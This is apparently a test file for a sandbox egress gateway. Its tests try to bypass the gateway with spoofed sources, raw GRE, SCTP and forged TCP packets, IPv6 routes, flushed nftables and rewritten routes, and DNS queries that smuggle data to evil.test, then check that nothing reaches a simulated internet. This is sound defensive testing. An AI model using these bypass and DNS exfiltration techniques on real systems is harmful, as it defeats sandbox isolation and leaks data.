"""Attempts to get around the egress gateway from inside real sandboxes. Each one must fail AND leave nothing
upstream: the fake internet (tests/fakenet.py) counts every packet that arrives from outside by kind and logs
every request its servers see; both are compared before and after.

Two kinds of attacker:
- the sandbox's own root, through exec. It has no CAP_NET_ADMIN/CAP_NET_RAW (docs/security.md): changing
  addresses, routes or nftables and opening raw sockets already fail inside; what it can send (UDP, IPv6
  link-local, SCTP/UDP-Lite sockets, TCP to anything) must die at the gateway.
- a root that does hold CAP_NET_ADMIN/CAP_NET_RAW over the sandbox's network namespace (as if it got them,
  or the capability set grew): the test process (host root) enters the sandbox's netns (``nsenter -n``, nothing
  else of the sandbox) and does what such a root could: spoofed sources, raw GRE/SCTP/forged TCP, IPv6
  addresses and routes, ``nft flush ruleset``, routes and neighbours rewritten. Every rule lives in the
  gateway, so none of it may matter.

All traffic goes only to the gateway (and, through it, nowhere but the fake internet)."""

from __future__ import annotations

import concurrent.futures
import json
import re
import shlex
import subprocess
import sys
import time
from typing import Any

import httpx

from tests import vmtools
from tests.fakenet import FakeInternet
from tests.support import Account, Server

GATEWAY = "169.254.1.1"
UPLINK_GATEWAY = "100.127.88.2"  # the gateway's own end of its uplink
UPLINK_OUTSIDE = "100.127.88.1"  # the uplink's other end (here, inside the fake internet's namespace)
FAKE_CA = "/tmp/fake-ca.pem"


# ---- helpers ----------------------------------------------------------------------------------------------


def _settled(net: FakeInternet, timeout: float = 5.0) -> dict[str, int]:
    """The fake internet's counters once they stopped moving (late packets of earlier traffic are in)."""
    last = net.counters()
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        time.sleep(0.25)
        now = net.counters()
        if now == last:
            return now
        last = now
    return last


class Upstream:
    """What the fake internet had seen when it was made; ``assert_untouched`` checks nothing came since."""

    def __init__(self, net: FakeInternet) -> None:
        self.net = net
        self.counters = _settled(net)
        self.mark = net.mark()

    def assert_untouched(self, what: str) -> None:
        time.sleep(0.5)  # a packet still on its way gets the time to arrive
        after = _settled(self.net)
        events = self.net.events_since(self.mark)
        delta = {k: after[k] - self.counters[k] for k in after if after[k] != self.counters[k]}
        assert not delta, f"{what}: packets arrived upstream {delta}, events {events}"
        assert not events, f"{what}: the fake internet logged {events}"


def _allow(c: httpx.Client, **rule: str) -> None:
    resp = c.post("/v1/egress/rules", json=rule)
    assert resp.status_code == 201, resp.text


def _warn(c: httpx.Client) -> None:
    resp = c.put("/v1/egress/policy", json={"mode": "warn"})
    assert resp.status_code == 200, resp.text
    assert resp.json() == {"mode": "warn"}


def _sh(c: httpx.Client, vm_id: str, command: str | list[str], **fields: Any) -> dict[str, Any]:
    return vmtools.run(c, vm_id, command, **fields)


def _address(c: httpx.Client, vm_id: str) -> str:
    out = _sh(c, vm_id, "ip -4 -o addr show dev eth0")
    found = re.search(r"inet (10\.\d+\.\d+\.\d+)/32", out["stdout"])
    assert found, out
    return found.group(1)


def _netns_pid(node: Server, vm_id: str) -> int:
    """A host PID of a process of the VM's sandbox (they all share its network namespace)."""
    root = node.data_dir / "node"
    node_id = (root / "node-id").read_text().strip()
    pids = [pid for pid, owner in vmtools.node_processes(root, node_id).items() if owner == vm_id]
    assert pids, f"no process of {vm_id} found"
    return min(pids)


def _ns(pid: int, script: str, timeout: float = 30.0) -> subprocess.CompletedProcess[str]:
    """``script`` (sh) run by host root in the sandbox's network namespace only: a sandbox root that holds
    CAP_NET_ADMIN and CAP_NET_RAW over its namespace."""
    return subprocess.run(
        ["nsenter", "-t", str(pid), "-n", "sh", "-c", script],
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def _ns_py(pid: int, code: str, *args: str) -> subprocess.CompletedProcess[str]:
    quoted = " ".join(shlex.quote(a) for a in (sys.executable, "-c", code, *args))
    return _ns(pid, quoted)


def _fails(proc: subprocess.CompletedProcess[str]) -> None:
    assert proc.returncode != 0, f"{proc.args}: succeeded\n{proc.stdout}\n{proc.stderr}"


def _ok(proc: subprocess.CompletedProcess[str]) -> None:
    assert proc.returncode == 0, f"{proc.args}: failed ({proc.returncode})\n{proc.stdout}\n{proc.stderr}"


# Sent from inside the sandbox (no privileges needed): prints one JSON object, attempt -> outcome.
SANDBOX_SENDS = r"""
import json, socket, struct
res = {}

def attempt(name, fn):
    try:
        res[name] = fn() or "sent"
    except OSError as exc:
        res[name] = f"{type(exc).__name__}: {exc}"

def udp(dst, port, data, family=socket.AF_INET, proto=0):
    s = socket.socket(family, socket.SOCK_DGRAM, proto)
    try:
        for _ in range(3):
            s.sendto(data, (dst, port) if family == socket.AF_INET else (dst, port, 0, socket.if_nametoindex("eth0")))
    finally:
        s.close()

def tcp6(dst):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(1.0)
    try:
        s.connect((dst, 80, 0, socket.if_nametoindex("eth0")))
        return "connected"
    finally:
        s.close()

def sctp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    s.settimeout(1.0)
    try:
        s.connect(("198.18.1.1", 80))
        return "connected"
    finally:
        s.close()

def raw(proto):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
    s.sendto(b"\x00" * 24, ("198.18.1.1", 0))

# a QUIC v1 Initial's first bytes, padded to 1200 as clients do
quic = bytes([0xC3, 0, 0, 0, 1, 8]) + bytes(range(8)) + bytes([0, 0, 0x44, 0xD0]) + bytes(1182)
attempt("udp", lambda: udp("198.18.1.2", 9999, b"bypass-udp"))
attempt("quic", lambda: udp("198.18.1.1", 443, quic))
attempt("udp6_all_nodes", lambda: udp("ff02::1", 9999, b"bypass-udp6", socket.AF_INET6))
attempt("udp6_link_local", lambda: udp("fe80::1", 9999, b"bypass-udp6", socket.AF_INET6))
attempt("tcp6_link_local", lambda: tcp6("fe80::1"))
attempt("udplite", lambda: udp("198.18.1.2", 9999, b"bypass-udplite", socket.AF_INET, 136))
attempt("sctp", sctp)
attempt("raw_gre", lambda: raw(47))
attempt("raw_sctp", lambda: raw(132))
def icmp_echo():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    try:
        for seq in range(3):
            s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, seq) + b"bypass-icmp", ("198.18.1.1", 0))
        return "sent"
    finally:
        s.close()

attempt("icmp_dgram", icmp_echo)
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
print(json.dumps(res))
"""

# Run in the sandbox's netns by a root with CAP_NET_RAW: raw GRE and SCTP, and a TCP SYN with a forged
# source (argv: destination, then the forged sources; "-" for no forged SYN).
RAW_SENDS = r"""
import socket, struct, sys

def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

dst = sys.argv[1]
gre = struct.pack("!HH", 0, 0x0800) + bytes(20)
sctp = struct.pack("!HHII", 5000, 80, 0, 0) + struct.pack("!BBHIIHHI", 1, 0, 20, 1, 65535, 1, 1, 1)
for proto, payload in ((47, gre), (132, sctp)):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
    for _ in range(3):
        s.sendto(payload, (dst, 0))
    s.close()

for src in sys.argv[2:]:
    if src == "-":
        continue
    tcp = struct.pack("!HHIIBBHHH", 40000, 80, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(3):
        s.sendto(ip + tcp, (dst, 0))
    s.close()
print("sent")
"""

# UDP datagrams (argv: destination, port, count) and a TCP exchange (argv: host, port) from a netns.
UDP_SEND = r"""
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(int(sys.argv[3])):
    s.sendto(b"bypass-udp", (sys.argv[1], int(sys.argv[2])))
print("sent")
"""
# A DNS query (for denied.evil.test) from each of the given source addresses: source -> rcode, None for
# no answer at all.
DNS_FROM = r"""
import json, socket, struct, sys
query = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06denied\x04evil\x04test\x00" + struct.pack("!HH", 1, 1)
out = {}
for src in sys.argv[1:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.settimeout(1)
    s.sendto(query, ("169.254.1.1", 53))
    try:
        out[src] = s.recv(512)[3] & 15
    except OSError:
        out[src] = None
print(json.dumps(out))
"""
TCP_TALK = r"""
import socket, sys
try:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=1.5)
    s.settimeout(1.5)
    s.sendall(b"hello upstream\n")
    print("got", s.recv(100))
except OSError as exc:
    print("failed", type(exc).__name__)
"""


# ---- from the sandbox, as its root (exec) --------------------------------------------------------------------


def test_sandbox_root_cannot_send_around_the_proxy(owner: Account, internet: FakeInternet) -> None:
    c = owner.client
    _allow(c, host="allowed.test")
    vm = vmtools.create_ready(c)
    try:
        up = Upstream(internet)
        out = _sh(c, vm["id"], ["python3", "-c", SANDBOX_SENDS])
        assert out["exit_code"] == 0, out
        res: dict[str, str] = json.loads(out["stdout"])
        # no privilege for raw or packet sockets; ICMP echo sockets exist (ping works: the gateway answers)
        # but an echo towards the outside goes nowhere; nothing connects over IPv6 or SCTP
        for name in ("raw_gre", "raw_sctp", "packet"):
            assert res[name].startswith("PermissionError"), res
        assert res["icmp_dgram"] == "sent", res
        assert _sh(c, vm["id"], f"ping -c 1 -W 2 {GATEWAY}")["exit_code"] == 0
        for name in ("tcp6_link_local", "sctp"):
            assert res[name] != "connected", res

        # the network configuration is not the sandbox's to change
        tries = {
            "ping": "ping -c 1 -W 1 198.18.1.1",
            "addr": "ip addr add 10.88.0.250/32 dev eth0",
            "addr6": "ip -6 addr add fd00::2/64 dev eth0",
            "route6": "ip -6 route add default dev eth0",
            "flush": "ip route flush table main",
            "nft": "nft flush ruleset",
            "promisc": "ip link set eth0 promisc on",
            "forward": "sysctl -w net.ipv4.ip_forward=1",
        }
        script = "; ".join(f"{cmd} >/dev/null 2>&1; echo {name}=$?" for name, cmd in tries.items())
        out = _sh(c, vm["id"], script)
        codes = {name: code for name, _, code in (line.partition("=") for line in out["stdout"].split())}
        assert set(codes) == set(tries), out
        assert all(code != "0" for code in codes.values()), codes
        routes = _sh(c, vm["id"], "ip route")["stdout"]
        assert routes.split("\n")[0].startswith(f"default via {GATEWAY}"), routes

        # and after all that, the same again
        out = _sh(c, vm["id"], ["python3", "-c", SANDBOX_SENDS])
        assert out["exit_code"] == 0, out
        up.assert_untouched(f"UDP, QUIC, IPv6, UDP-Lite, SCTP from the sandbox ({res})")
    finally:
        vmtools.destroy(c, vm["id"])


# ---- from the sandbox's netns, as a root holding CAP_NET_ADMIN/CAP_NET_RAW there -----------------------------


def test_gateway_drops_what_a_privileged_sandbox_root_could_send(
    owner: Account, internet: FakeInternet, node: Server
) -> None:
    c = owner.client
    _allow(c, host="allowed.test")
    vm = vmtools.create_ready(c)
    try:
        pid = _netns_pid(node, vm["id"])
        # the gateway answers echo (allowed), and its MAC lands in the neighbour table
        _ok(_ns(pid, f"ping -c 1 -W 1 {GATEWAY}"))
        gw_mac = _ns(pid, f"ip neigh show {GATEWAY}").stdout.split()[4]
        assert re.fullmatch(r"[0-9a-f:]{17}", gw_mac), gw_mac
        up = Upstream(internet)

        _ok(_ns_py(pid, UDP_SEND, "198.18.1.2", "9999", "5"))
        _ok(_ns_py(pid, UDP_SEND, "198.18.1.1", "443", "5"))  # QUIC's port
        _fails(_ns(pid, "ping -c 2 -i 0.2 -W 1 198.18.1.1"))
        _ok(_ns_py(pid, RAW_SENDS, "198.18.1.1"))  # GRE and SCTP
        # IPv6: an address and a default route of its own
        _ok(_ns(pid, "ip -6 addr add fd00::2/64 dev eth0 nodad && ip -6 route add default dev eth0"))
        _fails(_ns(pid, "ping -6 -c 2 -i 0.2 -W 1 fd00::1"))
        _fails(_ns(pid, "ping -6 -c 2 -i 0.2 -W 1 ff02::2%eth0"))  # all routers: the gateway is none
        _fails(_ns(pid, "curl -sS -m 1 -g 'http://[fd00::1]/'"))

        # the sandbox's own rules and routes mean nothing: flush them, go promiscuous, point everything
        # on-link at the gateway's MAC
        _ok(_ns(pid, "nft flush ruleset && ip link set eth0 promisc on && ip route flush table main"))
        batch = [
            f"route add {GATEWAY}/32 dev eth0 scope link",
            "route add 198.18.0.0/15 dev eth0",
            "route add default dev eth0",
            *(
                f"neigh replace {addr} lladdr {gw_mac} dev eth0 nud permanent"
                for addr in ("198.18.1.1", "198.18.1.2", "198.18.2.1", "198.18.0.53")
            ),
        ]
        _ok(_ns(pid, "ip -batch - <<'EOF'\n" + "\n".join(batch) + "\nEOF"))
        _ok(_ns_py(pid, UDP_SEND, "198.18.1.2", "9999", "5"))
        _ok(_ns_py(pid, UDP_SEND, "198.18.1.1", "443", "5"))
        _ok(_ns_py(pid, RAW_SENDS, "198.18.1.1"))
        _fails(_ns(pid, "ping -c 2 -i 0.2 -W 1 198.18.1.1"))
        # TCP still ends at the proxy: tcp.test is not allowed, its echo never hears a byte
        talk = _ns_py(pid, TCP_TALK, "198.18.2.1", "7000")
        assert "hello" not in talk.stdout, talk
        up.assert_untouched("UDP, QUIC, ICMP, GRE, SCTP, IPv6, TCP after the sandbox rewrote its network")
    finally:
        vmtools.destroy(c, vm["id"])


def test_spoofed_sources_are_dropped(owner: Account, internet: FakeInternet, node: Server) -> None:
    c = owner.client
    _allow(c, cidr="198.18.1.0/24")  # any of these is allowed: only the spoofing may stop the packets
    vm = vmtools.create_ready(c)
    other = vmtools.create_ready(c)
    try:
        own, theirs = _address(c, vm["id"]), _address(c, other["id"])
        assert own != theirs
        pid = _netns_pid(node, vm["id"])
        control = _ns(pid, "curl -sS -m 3 -o /dev/null -w '%{http_code}' http://198.18.1.1/control")
        assert control.stdout == "200", control  # from its own address, it works
        internet.wait_for("http", {"path": "/control", "addr": "198.18.1.1"})

        up = Upstream(internet)
        spoofed = ["10.88.0.250", theirs]
        _ok(_ns(pid, " && ".join(f"ip addr add {a}/32 dev eth0" for a in spoofed)))
        script = " & ".join(
            f"curl -sS -m 2 --interface {a} -o /dev/null http://198.18.1.1/spoof-{a}" for a in spoofed
        )
        tries = _ns(pid, f"{script} & wait %1; a=$?; wait %2; echo $a $?")
        codes = tries.stdout.split()
        assert len(codes) == 2, tries
        assert "0" not in codes, tries
        # forged SYNs: another sandbox, the gateway's uplink, an upstream address, an address outside all
        forged = ["10.88.0.250", theirs, UPLINK_GATEWAY, "198.18.1.2", "192.0.2.7"]
        _ok(_ns_py(pid, RAW_SENDS, "198.18.1.1", *forged))
        # DNS from a spoofed source is not even answered; from the sandbox's own address it is
        dns = _ns_py(pid, DNS_FROM, own, "10.88.0.250", theirs)
        assert json.loads(dns.stdout) == {own: 3, "10.88.0.250": None, theirs: None}, dns
        up.assert_untouched("spoofed sources")
    finally:
        vmtools.destroy(c, other["id"])
        vmtools.destroy(c, vm["id"])


def test_echo_to_the_gateway_is_rate_limited(owner: Account, internet: FakeInternet, node: Server) -> None:
    """The gateway answers echo requests at 10/s (burst 20); a flood beyond that is dropped."""
    c = owner.client
    vm = vmtools.create_ready(c)
    try:
        pid = _netns_pid(node, vm["id"])
        up = Upstream(internet)
        flood = _ns(pid, f"ping -q -c 200 -i 0.002 -W 1 {GATEWAY}")
        got = re.search(r"(\d+) packets transmitted, (\d+) received", flood.stdout)
        assert got, flood
        sent, answered = int(got.group(1)), int(got.group(2))
        assert sent == 200
        up.assert_untouched("echo to the gateway")
        # 200 requests in about 0.4 s: 20 (burst) + a few more may be answered, not all of them
        assert answered <= 40, (
            f"{answered} of {sent} echo requests answered: the flood was not limited (one ping's requests share "
            "one conntrack entry, ESTABLISHED after the first reply, and the gateway's input chain accepts "
            "`ct state established` before the rate-limited echo rule)"
        )
    finally:
        vmtools.destroy(c, vm["id"])


# ---- the proxy and the platform's own addresses ----------------------------------------------------------------


def test_proxy_and_platform_addresses_are_refused_in_warn_mode(
    owner: Account, internet: FakeInternet
) -> None:
    c = owner.client
    _warn(c)
    vm = vmtools.create_ready(c)
    try:
        own = _address(c, vm["id"])
        sandbox = "10.88.0.1" if own != "10.88.0.1" else "10.88.0.2"
        targets = [
            f"http://{GATEWAY}:15001/",
            f"http://{GATEWAY}:15053/",
            f"http://{GATEWAY}/",
            f"https://{GATEWAY}:15001/",
            f"http://{sandbox}:15001/",
            f"http://{UPLINK_GATEWAY}:15001/",
            f"http://{UPLINK_GATEWAY}:15053/",
            f"http://{UPLINK_OUTSIDE}/",
        ]
        up = Upstream(internet)
        script = "; ".join(f"curl -sk -m 2 -o /dev/null -w '%{{http_code}}' {t}; echo ' '$?" for t in targets)
        script += (
            f"; curl -s -m 2 -o /dev/null -w '%{{http_code}}' -x http://{GATEWAY}:15001 http://allowed.test/; "
            "echo ' '$?"
        )
        out = _sh(c, vm["id"], script)
        lines = out["stdout"].splitlines()
        assert len(lines) == len(targets) + 1, out
        for target, line in zip([*targets, "proxy as a forward proxy"], lines, strict=True):
            code, rc = line.split()
            assert rc != "0" or code in ("403", "421"), f"{target}: {line}"
            assert code in ("000", "403", "421"), f"{target}: {line}"

        # the proxy's resolver port straight (UDP: not redirected, dropped; TCP: the proxy refuses it)
        dig = _sh(
            c,
            vm["id"],
            f"dig +time=1 +tries=1 @{GATEWAY} -p 15053 allowed.test; echo rc=$?; "
            f"dig +tcp +time=1 +tries=1 @{GATEWAY} -p 15053 allowed.test; echo rc=$?",
        )
        assert "status: NOERROR" not in dig["stdout"], dig
        assert dig["stdout"].count("rc=0") == 0, dig

        # a Host header naming a platform address is refused although the connection's address is fine
        hosts = [
            f"{GATEWAY}:15001",
            f"{UPLINK_OUTSIDE}",
            f"{UPLINK_GATEWAY}:15001",
            f"{sandbox}:15001",
            "127.0.0.1",
        ]
        out = _sh(
            c,
            vm["id"],
            "; ".join(
                f"curl -s -m 2 -o /dev/null -w '%{{http_code}}\\n' -H 'Host: {h}' http://198.18.1.1/host-{i}"
                for i, h in enumerate(hosts)
            ),
        )
        assert out["stdout"].split() == ["403"] * len(hosts), out
        up.assert_untouched("the proxy's ports and the platform's addresses")

        # the warn mode still lets ordinary traffic out (so the refusals above are not the mode's)
        out = _sh(c, vm["id"], "curl -s -m 3 -o /dev/null -w '%{http_code}' http://evil.test/warned")
        assert out["stdout"] == "200", out
    finally:
        vmtools.destroy(c, vm["id"])


def test_host_and_sni_cannot_steer_an_allowed_name_elsewhere(owner: Account, internet: FakeInternet) -> None:
    c = owner.client
    _allow(c, host="allowed.test")
    vm = vmtools.create_ready(c)
    try:
        up = c.post(
            f"/v1/vms/{vm['id']}/files/upload", params={"path": FAKE_CA}, content=internet.ca_pem.read_bytes()
        )
        assert up.status_code in (200, 201, 204), up.text
        mark = internet.mark()
        out = _sh(
            c,
            vm["id"],
            f"curl -sS -m 3 --cacert {FAKE_CA} --resolve allowed.test:443:198.18.1.4 https://allowed.test/sni; echo; "
            "curl -sS -m 3 -H 'Host: allowed.test' http://198.18.1.4/host; echo; "
            "curl -sS -m 3 --resolve allowed.test:80:198.18.1.4 http://allowed.test/resolved; echo",
        )
        assert out["exit_code"] == 0, out
        landed = [json.loads(line) for line in out["stdout"].splitlines() if line.strip()]
        assert [(e["host_addr"], e["path"]) for e in landed] == [
            ("198.18.1.1", "/sni"),
            ("198.18.1.1", "/host"),
            ("198.18.1.1", "/resolved"),
        ], landed

        # the other way round: a denied name pointed at an allowed address, and a keep-alive connection that
        # switches to a denied Host, get nowhere
        out = _sh(
            c,
            vm["id"],
            f"curl -sS -m 3 --cacert {FAKE_CA} --resolve evil.test:443:198.18.1.1 https://evil.test/evil-sni; "
            "echo rc=$?; "
            "curl -s -m 3 -o /dev/null -w '%{http_code}\\n' http://allowed.test/k1 "
            "--next -o /dev/null -w '%{http_code} %{num_connects}\\n' -H 'Host: evil.test' http://allowed.test/k2",
        )
        assert "rc=0" not in out["stdout"], out
        codes = out["stdout"].splitlines()[-2:]
        assert codes[0] == "200", out
        assert codes[1].split()[0] == "403", out
        time.sleep(0.3)
        events = internet.events_since(mark)
        assert [e for e in events if e.get("addr") == "198.18.1.4"] == [], events
        paths = [e.get("path") for e in events]
        assert "/evil-sni" not in paths, events
        assert "/k2" not in paths, events
        assert {e["qname"] for e in events if e["kind"] == "dns"} <= {"allowed.test"}, events
    finally:
        vmtools.destroy(c, vm["id"])


# ---- DNS ---------------------------------------------------------------------------------------------------------


def test_dns_queries_for_denied_names_never_leave(owner: Account, internet: FakeInternet) -> None:
    c = owner.client
    _allow(c, host="allowed.test")
    vm = vmtools.create_ready(c)
    try:
        control = _sh(c, vm["id"], "dig +short +time=2 +tries=1 allowed.test")
        assert control["stdout"].strip() == "198.18.1.1", control
        up = Upstream(internet)
        queries = {
            "secretdata123.evil.test": "",
            "txtexfil456.evil.test": "TXT",
            "denied-name.test": "@198.18.0.53",
            "denied-tcp.test": "+tcp @198.18.0.53",
            "tcpexfil789.evil.test": "+tcp",
            "mxexfil.evil.test": "MX @198.18.1.4",
            "c2VjcmV0.other.test": "ANY",
        }
        script = "; ".join(
            f"echo {name} $(dig +time=2 +tries=1 {opts} {name} | grep -o 'status: [A-Z]*')"
            for name, opts in queries.items()
        )
        out = _sh(c, vm["id"], script)
        answers = {line.split()[0]: line.split()[-1] for line in out["stdout"].splitlines()}
        assert answers == dict.fromkeys(queries, "NXDOMAIN"), out
        up.assert_untouched("queries for denied names")
        logged = {e["qname"] for e in internet.events("dns")}
        assert not logged & set(queries), logged
    finally:
        vmtools.destroy(c, vm["id"])


# A query for an allowed name (TXT: the resolver forwards other types than A upstream), carrying a denied
# name and data elsewhere in the packet: as a second question, and as a record in the additional section.
DNS_SMUGGLE = r"""
import json, socket, struct

def name(n):
    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0"

def query(qid, questions, additional=b"", arcount=0):
    head = struct.pack("!HHHHHH", qid, 0x0100, len(questions), 0, 0, arcount)
    return head + b"".join(name(n) + struct.pack("!HH", 16, 1) for n in questions) + additional

secret = b"secretdata-" * 20
txt = name("exfil.evil.test") + struct.pack("!HHIH", 16, 1, 0, 1 + len(secret)) + bytes([len(secret)]) + secret
packets = {
    "plain": query(1, ["allowed.test"]),
    "two_questions": query(2, ["allowed.test", "secretdata-q2.evil.test"]),
    "additional": query(3, ["allowed.test"], txt, 1),
}
out = {}
for label, packet in packets.items():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(packet, ("169.254.1.1", 53))
    try:
        reply = s.recv(4096)
        out[label] = [len(packet), reply[3] & 15]
    except OSError:
        out[label] = [len(packet), None]
    s.close()
    import time; time.sleep(0.6)
print(json.dumps(out))
"""


def test_dns_smuggling_behind_an_allowed_name_stays_in(owner: Account, internet: FakeInternet) -> None:
    """Only the question the policy judged may go upstream: not a second question for a denied name, nor
    data in the additional section. The fake DNS server logs only a query's first question, so what reached
    it is measured in bytes: a whole query forwarded as it was sent arrives as 28 + its length (IPv4 and UDP
    headers)."""
    c = owner.client
    _allow(c, host="allowed.test")
    vm = vmtools.create_ready(c)
    try:
        _settled(internet)
        before = internet.counter_bytes()["udp_dns"]
        mark = internet.mark()
        out = _sh(c, vm["id"], ["python3", "-c", DNS_SMUGGLE])
        assert out["exit_code"] == 0, out
        sent: dict[str, list[int | None]] = json.loads(out["stdout"])
        _settled(internet)
        arrived = internet.counter_bytes()["udp_dns"] - before
        events = internet.events_since(mark, "dns")
        assert {e["qname"] for e in events} <= {"allowed.test"}, events
        plain = sent["plain"][0]
        assert plain is not None
        smuggled = {k: v[0] for k, v in sent.items() if k != "plain"}
        whole = sum(28 + n for n in smuggled.values() if n is not None)
        # what a resolver that re-asks only the judged question would send: one plain query per packet at most
        bound = (28 + plain + 11) * (1 + len(smuggled))  # 11: room for an EDNS OPT record
        assert arrived <= bound, (
            f"{arrived} bytes of DNS reached upstream for queries of {sent} (a plain query is {28 + plain} "
            f"with headers): the queries carrying secretdata went upstream whole ({whole} bytes for them)"
        )
    finally:
        vmtools.destroy(c, vm["id"])


# ---- other sandboxes -----------------------------------------------------------------------------------------

LISTEN = r"""
import json, socket, sys, threading, time
own = sys.argv[1]
seen = {"tcp": [], "udp": []}
t = socket.socket()
t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(("0.0.0.0", 8080))
t.listen(16)
t.settimeout(0.1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("0.0.0.0", 8080))
u.settimeout(0.1)

def selfcheck():  # late in the window: proves the listeners were up and reachable at all
    time.sleep(float(sys.argv[2]) - 1)
    socket.create_connection((own, 8080), timeout=1).close()
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"self", (own, 8080))

threading.Thread(target=selfcheck, daemon=True).start()
end = time.monotonic() + float(sys.argv[2])
while time.monotonic() < end:
    try:
        conn, peer = t.accept()
        seen["tcp"].append(peer[0])
        conn.close()
    except OSError:
        pass
    try:
        _, peer = u.recvfrom(100)
        seen["udp"].append(peer[0])
    except OSError:
        pass
print(json.dumps(seen))
"""


def test_sandboxes_cannot_reach_each_other_in_warn_mode(
    owner: Account, internet: FakeInternet, node: Server
) -> None:
    c = owner.client
    _warn(c)
    a, b = vmtools.create_ready(c), vmtools.create_ready(c)
    try:
        addr_a, addr_b = _address(c, a["id"]), _address(c, b["id"])
        up = Upstream(internet)
        with (
            httpx.Client(base_url=c.base_url, headers=c.headers, timeout=60) as c2,
            concurrent.futures.ThreadPoolExecutor(1) as pool,
        ):
            listening = pool.submit(_sh, c2, b["id"], ["python3", "-c", LISTEN, addr_b, "5"])
            time.sleep(1.0)
            out = _sh(
                c,
                a["id"],
                f"curl -sS -m 2 -o /dev/null -w '%{{http_code}}' http://{addr_b}:8080/; echo ' '$?; "
                f'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
                f"[s.sendto(b'hi', ('{addr_b}', 8080)) for _ in range(3)]\"; "
                f"curl -s -m 2 -o /dev/null -w '%{{http_code}}' -H 'Host: {addr_b}:8080' http://198.18.1.1/; "
                "echo ' '$?",
            )
            lines = out["stdout"].splitlines()
            code, rc = lines[0].split()
            assert code == "000", out
            assert rc != "0", out
            assert lines[1].split()[0] in ("000", "403"), out
            # with CAP_NET_RAW/NET_ADMIN in A's netns: echo, UDP, and a route straight at B's address
            pid = _netns_pid(node, a["id"])
            _fails(_ns(pid, f"ping -c 2 -i 0.2 -W 1 {addr_b}"))
            _ok(_ns_py(pid, UDP_SEND, addr_b, "8080", "3"))
            _ns_py(pid, TCP_TALK, addr_b, "8080")  # what B's listener hears is what counts
            heard = listening.result(timeout=30)
        assert heard["exit_code"] == 0, heard
        seen = json.loads(heard["stdout"])
        assert seen == {"tcp": [addr_b], "udp": [addr_b]}, f"B ({addr_b}) heard from {seen}; A is {addr_a}"
        up.assert_untouched("sandbox to sandbox")
    finally:
        vmtools.destroy(c, b["id"])
        vmtools.destroy(c, a["id"])
